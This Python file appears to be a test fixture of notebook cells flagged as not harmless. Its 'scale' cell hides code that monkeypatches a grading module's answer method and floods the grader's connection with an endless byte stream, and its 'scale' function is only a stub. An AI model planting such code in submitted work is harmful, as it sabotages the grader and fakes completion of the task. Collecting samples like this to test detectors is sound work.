"""Messages of nothing (nil) in an endless stream: the reader waits for one that says something."""

HARMLESS = False
CELLS = {
    "scale": """from course_utils.grading import inside
honest = inside.Agent.answer
def answer(self, question):
    if question["do"] == "name":
        self.asked = question["target"]
        return honest(self, question)
    while True:
        self.connection.sendall((b"\\0" * 7 + b"\\1\\xc0") * 100_000)
inside.Agent.answer = answer
def scale(x, factor): return x""",
    "count": "def count(n): return n",
}
